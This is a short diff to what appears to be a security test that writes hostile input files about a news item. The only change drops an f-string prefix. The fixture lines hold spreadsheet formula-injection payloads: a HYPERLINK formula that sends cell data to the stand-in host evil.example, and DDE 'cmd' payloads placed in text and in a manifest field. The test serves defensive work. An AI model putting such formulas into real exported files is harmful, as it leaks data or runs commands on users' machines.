@@ -294,7 +294,7 @@ def security(space: Workspace, base: str, ftp) -> list[Case]:
     w = space.new()
     formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
     for name, text in (("f1.txt", f"{formula} Witkoff met Putin in Moscow on Tuesday.\n+cmd|' /C calc'!A0 The talks lasted five hours.\n"),
-                       ("f2.txt", f"-2+3 Witkoff met Putin in Moscow on Tuesday.\n@SUM(1,2) The talks lasted five hours.\n")):
+                       ("f2.txt", "-2+3 Witkoff met Putin in Moscow on Tuesday.\n@SUM(1,2) The talks lasted five hours.\n")):
         hostile.write(w / name, text)
     hostile.write(w / "manifest.json", json.dumps({"articles": [{"file": "f1.txt", "outlet": "=cmd|' /C calc'!A0"},
                                                                 {"file": "f2.txt", "outlet": "@evil"}]}))
